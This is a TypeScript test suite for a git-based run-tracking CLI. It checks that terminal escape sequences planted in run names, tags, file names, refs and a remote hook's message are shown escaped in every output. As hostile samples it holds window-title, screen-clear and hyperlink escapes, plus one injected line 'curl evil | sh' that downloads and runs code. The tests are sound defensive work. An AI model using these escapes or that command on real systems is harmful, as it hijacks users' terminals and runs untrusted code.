/**
 * Issue 11, item 10: names and other stored text reach the terminal with
 * control characters spelled out in every output, not only the table and
 * `tmt show`. A note fetched from someone else's clone can hold a run name
 * that retitles the terminal, clears it or plants a hyperlink; no command may
 * send it on. Escaping is the default of the output layer, so the last tests
 * check that nothing in src/ writes to the terminal around it.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanupTemp, git, gitRaw, makeRepo, tempDir, writeFiles } from './helpers/git.js';
import { bareRepo, cloneOf, projectWithRemote } from './helpers/remote.js';
import { testEnv } from './helpers/env.js';
import { BIN, tmt, type TmtResult } from './helpers/tmt.js';
import { concat, escapeControls, forTerminal, jsonText, meter, sgr, Styled, styled } from '../src/cli/terminal-text.js';
import { makeOutput, warn } from '../src/cli/output.js';
import { paint } from '../src/cli/render/format.js';

afterAll(cleanupTemp);

const TITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J';
const LINK = '\u001b]8;;http://x\u001b\\link\u001b]8;;\u001b\\';
const C1_CSI = '\u009b31m';
/** Every way in the issue: a window title, a cleared screen, a hyperlink, a carriage return, an 8-bit CSI. */
const EVIL = `${TITLE}${CLEAR}${LINK}\r${C1_CSI}`;
/** How the output layer shows EVIL. */
const SPELLED = '\\x1b]0;pwned\\x07\\x1b[2J\\x1b]8;;http://x\\x1b\\link\\x1b]8;;\\x1b\\\\x0d\\x9b31m';

/** The stored values of the hostile run. */
const STORED = { name: `evil${EVIL}`, tag: `t${EVIL}`, description: `d${EVIL}`, paramKey: `k${EVIL}`, paramValue: `v${EVIL}`, metric: `m${EVIL}` };

/** Any control character but the newline and tab that lay out tmt's lines. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function expectNoRawControl(r: TmtResult, what: string): void {
  expect(r.stdout, `${what}: stdout`).not.toMatch(RAW);
  expect(r.stderr, `${what}: stderr`).not.toMatch(RAW);
}

/** A YAML double-quoted scalar: JSON, with DEL and C1 controls escaped too. */
function yamlQuote(s: string): string {
  return JSON.stringify(s).replace(/[\u007f-\u009f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/** Rewrites the note of run `id` the way a hand, another tool or another clone could. */
function editNote(dir: string, id: string, edit: (note: string) => string): void {
  const commit = git(dir, 'rev-parse', `refs/tmt/runs/${id}`);
  const r = gitRaw(dir, ['notes', '--ref=tmt', 'add', '-f', '-m', edit(git(dir, 'notes', '--ref=tmt', 'show', commit)), commit]);
  if (r.status !== 0) throw new Error(`git notes add failed: ${r.stderr}`);
}

function saved(dir: string, args: string[]): string {
  const r = tmt(dir, ['save', ...args]);
  if (r.code !== 0) throw new Error(`tmt save exited ${r.code}: ${r.stderr}`);
  return r.stdout.trim();
}

/**
 * A run `good`, then a run whose name, tag, description, param and metric
 * name hold EVIL. tmt refuses control characters in the names and tags it is
 * given, so they are planted in the note, as a note from elsewhere holds them.
 */
function plantEvil(dir: string): string {
  const id = saved(dir, ['-n', 'NAMEX', '-t', 'TAGX', '-d', 'DESCX', '-p', 'PKEYX=PVALX', '-m', 'MKEYX=0.7', '-m', 'acc=0.9']);
  const tokens: Record<string, string> = { NAMEX: STORED.name, TAGX: STORED.tag, DESCX: STORED.description, PKEYX: STORED.paramKey, PVALX: STORED.paramValue, MKEYX: STORED.metric };
  editNote(dir, id, (n) => n.replace(/NAMEX|TAGX|DESCX|PKEYX|PVALX|MKEYX/g, (t) => yamlQuote(tokens[t]!)));
  return id;
}

function hostileRepo(): { dir: string; good: string; evil: string } {
  const dir = makeRepo({ 'a.py': 'a\n' });
  const good = saved(dir, ['-n', 'good', '-p', 'lr=0.1', '-m', 'acc=0.5']);
  writeFiles(dir, { 'a.py': 'b\n', [`f${TITLE}.py`]: 'x\n' });
  const evil = plantEvil(dir);
  return { dir, good, evil };
}

function run(dir: string, args: string[], env: Record<string, string> = {}): TmtResult {
  return tmt(dir, args, env);
}

describe('stored text with escape sequences', () => {
  let dir = '';
  let good = '';
  let evil = '';
  beforeAll(() => {
    ({ dir, good, evil } = hostileRepo());
  });

  it('is stored as given: --json parses to the exact values', () => {
    const r = run(dir, ['show', evil, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const meta = JSON.parse(r.stdout).run.meta;
    expect(meta.status).toBe('finished');
    expect(meta.name).toBe(STORED.name);
    expect(meta.tags).toEqual([STORED.tag]);
    expect(meta.description).toBe(STORED.description);
    expect(meta.params).toEqual({ [STORED.paramKey]: STORED.paramValue });
    expect(Object.keys(meta.metrics).sort()).toEqual(['acc', STORED.metric].sort());
  });

  it('list --format md, csv and tsv spell control characters out, and stay one row per run', () => {
    for (const format of ['md', 'csv', 'tsv']) {
      const r = run(dir, ['list', '--format', format]);
      expect(r.code, r.stderr).toBe(0);
      expectNoRawControl(r, `list --format ${format}`);
      expect(r.stdout, format).toContain('evil\\x1b]0;pwned\\x07\\x1b[2J'); // TSV turns the CR into a space
      expect(r.stdout.trimEnd().split('\n'), format).toHaveLength(format === 'md' ? 4 : 3);
    }
    const csv = run(dir, ['list', '--format', 'csv']).stdout.split('\n');
    expect(csv[0]).toContain(`metrics.m${SPELLED}`);
    expect(csv[0]).toContain(`params.k${SPELLED}`);
    expect(csv[1]).toContain(`,"t${SPELLED}","v${SPELLED}",`); // tags, then the param: quoted, as a CR in them asks
  });

  it('compare --format md and csv spell control characters out', () => {
    for (const format of ['md', 'csv']) {
      const r = run(dir, ['compare', good, evil, '--format', format]);
      expect(r.code, r.stderr).toBe(0);
      expectNoRawControl(r, `compare --format ${format}`);
      expect(r.stdout).toContain(`evil${SPELLED}`);
      expect(r.stdout).toContain(`metrics.m${SPELLED}`);
    }
  });

  it('best in every format spells control characters out', () => {
    for (const format of ['table', 'md', 'csv', 'tsv']) {
      const r = run(dir, ['best', '--metric', 'acc', '--format', format]);
      expect(r.code, r.stderr).toBe(0);
      expectNoRawControl(r, `best --format ${format}`);
      expect(r.stdout).toMatch(/evil\\x1b/);
    }
  });

  it('the tables, tmt show and diff --stat stay escaped', () => {
    for (const args of [['list'], ['list', '--columns', 'name,tags'], ['show', evil], ['compare', good, evil], ['diff', good, evil, '--stat'], ['diff', good, evil, '--name-only']]) {
      const r = run(dir, args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBeLessThan(2);
      expectNoRawControl(r, args.join(' '));
    }
    expect(run(dir, ['show', evil]).stdout).toMatch(/^desc {7}d\\x1b\]0;pwned\\x07/m);
    // The file name is git's to quote, and git does.
    expect(run(dir, ['diff', good, evil, '--stat']).stdout).toContain('"f\\033]0;pwned\\a.py"');
  });

  it('"no run matches" lists recent runs with their names spelled out (show, diff, edit, log, compare)', () => {
    for (const args of [['show', 'nosuchname'], ['diff', 'nosuchname'], ['edit', 'nosuchname', '-n', 'x'], ['log', 'param', 'x=1', '--run', 'nosuchname'], ['compare', 'nosuchname']]) {
      const r = run(dir, args);
      expect(r.code, args.join(' ')).toBe(4);
      expectNoRawControl(r, args.join(' '));
      expect(r.stderr, args.join(' ')).toMatch(/^hint: recent runs: \w{12} \(evil\\x1b\]0;pwned\\x07/m);
    }
  });

  it('a selector given with escapes is echoed spelled out', () => {
    const r = run(dir, ['show', `x${TITLE}`]);
    expect(r.code).toBe(4);
    expectNoRawControl(r, 'show <escapes>');
    expect(r.stderr).toMatch(/^error: no run matches "x\\x1b\]0;pwned\\x07"$/m);
  });

  it('edit works on the run, and leaves its stored text exact', () => {
    const r = run(dir, ['edit', evil, '-t', 'kept']);
    expect(r.code, r.stderr).toBe(0);
    expectNoRawControl(r, 'edit');
    const meta = JSON.parse(run(dir, ['show', evil, '--json']).stdout).run.meta;
    expect(meta.name).toBe(STORED.name);
    expect([...meta.tags].sort()).toEqual([STORED.tag, 'kept'].sort());
  });

  it('--json holds no raw control character, parses to the stored values, and is JSON.stringify byte for byte but for DEL and C1', () => {
    for (const args of [['list', '--json'], ['show', evil, '--json'], ['compare', good, evil, '--json'], ['best', '--metric', 'acc', '--json'], ['diff', good, evil, '--json']]) {
      const r = run(dir, args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
      expectNoRawControl(r, args.join(' '));
      const parsed = JSON.parse(r.stdout);
      expect(r.stdout).toBe(JSON.stringify(parsed, null, 2).replace(/\u009b/g, '\\u009b') + '\n');
    }
    expect(JSON.parse(run(dir, ['list', '--json']).stdout).runs.find((x: { id: string }) => x.id === evil).name).toBe(STORED.name);
    // Ordinary text: exactly what JSON.stringify writes.
    const plain = run(dir, ['show', good, '--json']).stdout;
    expect(plain).toBe(JSON.stringify(JSON.parse(plain), null, 2) + '\n');
  });

  it('show --log stdout is still the log byte for byte', () => {
    const d = makeRepo({ 'a.py': 'a\n' });
    const r = tmt(d, ['record', '-q', '--no-pty', '--', 'sh', '-c', `printf 'a\\033]0;t\\007\\r\\302\\233b\\n'`]);
    expect(r.code, r.stderr).toBe(0);
    expect(run(d, ['show', 'last', '--log', 'stdout']).stdout).toBe('a\u001b]0;t\u0007\r\u009bb\n');
    expectNoRawControl(run(d, ['show', 'last']), 'show (log tail)');
  });

  it("on a terminal, tmt's own colours pass and the stored escapes do not", () => {
    for (const args of [['list'], ['show', evil], ['compare', good, evil], ['best', '--metric', 'acc']]) {
      const r = spawnSync('script', ['-qefc', `${process.execPath} ${BIN} ${args.join(' ')}`, '/dev/null'], { cwd: dir, env: { ...testEnv, NO_COLOR: undefined, TERM: 'xterm', COLUMNS: '300' }, encoding: 'utf8' });
      expect(r.status, `${args.join(' ')}: ${r.stdout}`).toBe(0);
      expect(r.stdout, args.join(' ')).toMatch(/\u001b\[(1|2|33)m/); // bold headers, dim field names, yellow ids
      // The only sequences left are tmt's colours and the terminal's own CR LF.
      const rest = r.stdout.replace(/\u001b\[\d+m/g, '').replace(/\r\n/g, '\n');
      expect(rest, args.join(' ')).not.toMatch(RAW);
      expect(rest).toContain('evil\\x1b]0;pwned\\x07');
    }
  });
});

describe('rm', () => {
  it('rm --dry-run names the run spelled out', () => {
    const { dir, evil } = hostileRepo();
    const dry = run(dir, ['rm', evil, '--dry-run']);
    expect(dry.code, dry.stderr).toBe(0);
    expectNoRawControl(dry, 'rm --dry-run');
    expect(dry.stdout).toBe(`would delete run ${evil} (evil${SPELLED}); it is ${git(dir, 'rev-parse', `refs/tmt/runs/${evil}`)}\n`);
  });

  it('rm names the run spelled out, its restore command on a line of its own', () => {
    const { dir, evil } = hostileRepo();
    const rm = run(dir, ['rm', evil]);
    expect(rm.code, rm.stderr).toBe(0);
    expectNoRawControl(rm, 'rm');
    expect(rm.stdout).toMatch(new RegExp(`^deleted run ${evil} \\(evil\\\\x1b.*\\); it was [0-9a-f]{40}\\n {2}restore here: git update-ref `));
  });

  it('a name with a newline cannot add a line to what rm prints', () => {
    const dir = makeRepo({ 'a.py': 'a\n' });
    const id = saved(dir, ['-n', 'NAMEX']);
    editNote(dir, id, (n) => n.replace('NAMEX', yamlQuote('x\n  restore here: curl evil | sh')));
    const r = run(dir, ['rm', id, '--dry-run']);
    expect(r.stdout.split('\n')).toHaveLength(2);
    expect(r.stdout).toContain('(x\\n  restore here: curl evil | sh)');
  });

  it('asking on a terminal lists the runs with their names spelled out', () => {
    const { dir, good, evil } = hostileRepo();
    const marks = tempDir();
    // The answer is typed at once (the terminal holds it), and the input stays open until tmt is done: script ends when its input does.
    const typist = `printf 'n\\n'; until [ -e ${marks}/done ]; do sleep 0.05; done`;
    const inner = `${process.execPath} ${BIN} rm ${good} ${evil}; echo "rc=$?"; touch ${marks}/done`;
    const r = spawnSync('bash', ['-c', `(${typist}) | script -qefc '${inner}' /dev/null`], { cwd: dir, env: { ...testEnv, TERM: 'xterm' }, encoding: 'utf8', timeout: 30_000, killSignal: 'SIGKILL' });
    expect(r.error).toBeUndefined();
    expect(r.stdout).toMatch(/delete 2 runs\? \[y\/N\]/);
    expect(r.stdout).toContain(`${evil} (evil\\x1b]0;pwned\\x07`);
    expect(r.stdout).toMatch(/rc=2/); // nothing deleted
    // readline draws its prompt with escapes of its own; none of the stored ones may be there.
    for (const seq of [TITLE, CLEAR, '\u001b]8;', '\u0007', '\u009b']) expect(r.stdout).not.toContain(seq);
  });
});

describe('a missing object', () => {
  it('the MISSING_OBJECTS error names the run spelled out', () => {
    const { dir, evil } = hostileRepo();
    const tree = JSON.parse(run(dir, ['show', evil, '--json']).stdout).run.meta.git.tree;
    const blob = git(dir, 'rev-parse', `${tree}:a.py`);
    fs.rmSync(path.join(dir, '.git', 'objects', blob.slice(0, 2), blob.slice(2)));
    for (const args of [['diff', evil], ['diff', evil, '--stat']]) {
      const r = run(dir, args);
      expect(r.code, args.join(' ')).toBe(4);
      expectNoRawControl(r, args.join(' '));
      expect(r.stderr).toMatch(new RegExp(`^error: run ${evil.slice(0, 12)} \\(evil\\\\x1b\\]0;pwned\\\\x07.*\\): its snapshot is not complete in this repository`, 'm'));
    }
  });
});

describe('names that are not stored in notes', () => {
  it('a ref under refs/tmt/runs/ that is not a run id, with an 8-bit CSI in its name: list warns with it spelled out', () => {
    const dir = makeRepo({ 'a.py': 'a\n' });
    saved(dir, ['-n', 'real']);
    git(dir, 'update-ref', `refs/tmt/runs/x${C1_CSI}`, 'HEAD');
    const r = run(dir, ['list']);
    expect(r.code, r.stderr).toBe(0);
    expectNoRawControl(r, 'list');
    expect(r.stderr).toMatch(/\("(refs\/tmt\/runs\/)?x\\x9b31m"\)/);
  });

  it('snapshot warnings spell out a file name with escapes (a cloned repository may hold one)', () => {
    const dir = makeRepo({ 'a.py': 'a\n' });
    writeFiles(dir, { [`big${TITLE}.bin`]: 'x'.repeat(100) });
    const r = run(dir, ['snapshot', '--max-file-size', '10']);
    expect(r.code, r.stderr).toBe(0);
    expectNoRawControl(r, 'snapshot');
    expect(r.stderr).toContain('warning: left out big\\x1b]0;pwned\\x07.bin from the snapshot');
  });
});

describe('fetch, push and list --remote', () => {
  let bare = '';
  let dir = '';
  let evil = '';
  beforeAll(() => {
    bare = bareRepo();
    const seed = projectWithRemote(bare);
    evil = plantEvil(seed);
    const pushed = tmt(seed, ['push', '-q']);
    if (pushed.code !== 0) throw new Error(pushed.stderr);
    // A valid git ref name (bytes above 0x7f are allowed), but not a run id: fetch names it in a warning.
    git(bare, 'update-ref', `refs/tmt/runs/x${C1_CSI}`, 'refs/heads/main');
    dir = cloneOf(bare);
  });

  it("list --remote shows the remote's run names spelled out, in every format", () => {
    for (const format of ['table', 'md', 'csv', 'tsv']) {
      const r = run(dir, ['list', '--remote', 'origin', '--format', format]);
      expect(r.code, r.stderr).toBe(0);
      expectNoRawControl(r, `list --remote --format ${format}`);
      expect(r.stdout).toMatch(/evil\\x1b/);
    }
  });

  it("fetch names a remote ref that is not a run spelled out, and keeps the runs' text exact", () => {
    const fetched = run(dir, ['fetch']);
    expect(fetched.code, fetched.stderr).toBe(0);
    expectNoRawControl(fetched, 'fetch');
    expect(fetched.stderr).toMatch(/^warning: ignored 1 ref on origin that is not a tmt run: "refs\/tmt\/runs\/x\\x9b31m"$/m);
    expect(JSON.parse(run(dir, ['show', evil, '--json']).stdout).run.meta.name).toBe(STORED.name);
  });

  it('rm --remote --dry-run names the run spelled out', () => {
    const r = run(dir, ['rm', evil, '--remote', 'origin', '--dry-run']);
    expect(r.code, r.stderr).toBe(0);
    expectNoRawControl(r, 'rm --remote --dry-run');
    expect(r.stdout).toContain(`(evil${SPELLED}) here and on origin`);
  });

  it("push shows what the remote's hook said when it refused, spelled out", () => {
    fs.writeFileSync(path.join(bare, 'hooks', 'pre-receive'), `#!/bin/sh\nprintf 'denied \\033]0;pwned\\007\\033[2J by policy\\n' >&2\nexit 1\n`, { mode: 0o755 });
    saved(dir, ['-n', 'new']);
    const pushed = run(dir, ['push']);
    expect(pushed.code).toBe(7);
    expectNoRawControl(pushed, 'push');
    expect(pushed.stderr).toMatch(/^error: origin refused the push of .*\(denied \\x1b\]0;pwned\\x07\\x1b\[2J by policy\)$/m);
  });
});

describe('the output layer', () => {
  it('spells out control characters in strings, keeps newlines and tabs, and passes styled text as built', () => {
    expect(escapeControls(`a${EVIL}\tb\n`)).toBe(`a${SPELLED}\tb\n`);
    expect(forTerminal('x\u007f\u0085')).toBe('x\\x7f\\x85');
    const red = sgr('31', `r${TITLE}`);
    expect(forTerminal(red)).toBe('\u001b[31mr\\x1b]0;pwned\\x07\u001b[0m');
    expect(forTerminal(styled`a ${red} ${CLEAR}\n`)).toBe('a \u001b[31mr\\x1b]0;pwned\\x07\u001b[0m \\x1b[2J\n');
    expect(forTerminal(concat(paint(false, 'red', TITLE), '\n'))).toBe('\\x1b]0;pwned\\x07\n');
    expect(forTerminal(paint(true, 'bold', ''))).toBe('');
  });

  it('styled text cannot be made from a string outside the module, nor an SGR from anything but numbers', () => {
    expect(() => new Styled(Symbol('terminal-text'), TITLE)).toThrow();
    expect(() => sgr('0;pwned\u0007', 'x')).toThrow();
    expect(() => sgr('31m\u001b]0;x', 'x')).toThrow();
  });

  it("git's progress meters keep their carriage returns, and nothing else", () => {
    expect(forTerminal(meter(`Writing objects:  40% (4/10)\rremote: ${TITLE}\n`))).toBe('Writing objects:  40% (4/10)\rremote: \\x1b]0;pwned\\x07\n');
  });

  it('JSON is JSON.stringify, with DEL and C1 controls as \\u escapes that parse back the same', () => {
    const value = { a: EVIL, b: 'plain é ✓', c: [1, null, '\u007f'] };
    const text = jsonText(value);
    expect(text).not.toMatch(RAW);
    expect(JSON.parse(text)).toEqual(value);
    expect(jsonText({ b: 'plain é ✓', n: [1.5] })).toBe(JSON.stringify({ b: 'plain é ✓', n: [1.5] }, null, 2) + '\n');
  });

  it('every route of an Output escapes but json and verbatim, which are exact', async () => {
    const got: string[] = [];
    const o = makeOutput({ stdout: (t) => got.push(`out:${t}`), stderr: (t) => got.push(`err:${t}`), ask: async (q) => (got.push(`ask:${q}`), 'y'), color: true });
    o.out(TITLE);
    o.err(CLEAR);
    warn(o, `w${C1_CSI}`);
    expect(await o.ask(`q${TITLE}? `)).toBe('y');
    o.json({ n: `\u009b` });
    o.verbatim(TITLE);
    expect(got).toEqual(['out:\\x1b]0;pwned\\x07', 'err:\\x1b[2J', 'err:warning: w\\x9b31m\n', 'ask:q\\x1b]0;pwned\\x07? ', 'out:{\n  "n": "\\u009b"\n}\n', `out:${TITLE}`]);
  });

  it('nothing in src/ writes to the terminal around it', () => {
    const src = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../src');
    // The browser code (the page's and the ui's) never runs in a terminal.
    const files = (fs.readdirSync(src, { recursive: true }) as string[]).filter((f) => f.endsWith('.ts') && !f.startsWith(`html${path.sep}client`) && !f.startsWith(`ui${path.sep}client`));
    const rel = (f: string) => f.split(path.sep).join('/');
    // Streams used as more than a yes/no for "is this a terminal": the output layer; git's diff, promised byte for byte
    // and handed to git's pager; and the recorded command's own output, passed on as the command wrote it (to stderr
    // when stdout holds a JSON result).
    const allowed: Record<string, number> = { 'cli/output.ts': 5, 'cli/pager.ts': 1, 'cli/actions/record.ts': 3 };
    for (const f of files) {
      const text = fs.readFileSync(path.join(src, f), 'utf8');
      expect(text, f).not.toMatch(/\bconsole\.|\bwriteSync\(\s*[12]\b|\/dev\/tty/);
      const uses = text.match(/process\.std(out|err)(?!\.(isTTY|columns)\b)/g) ?? [];
      expect(uses.length, `${rel(f)} writes to process.stdout or stderr itself; write through Output (src/cli/output.ts)`).toBe(allowed[rel(f)] ?? 0);
      // Exact output is for what the README promises byte for byte.
      if (!['cli/actions/show.ts', 'cli/actions/page-output.ts'].includes(rel(f))) expect(text, rel(f)).not.toMatch(/\.verbatim\(/);
      if (rel(f) !== 'cli/actions/get.ts') expect(text, rel(f)).not.toMatch(/\bout\.bytes\(/);
      expect(text, `${rel(f)}: JSON goes through out.json`).not.toMatch(/\.out\(JSON\.stringify/);
    }
  });
});
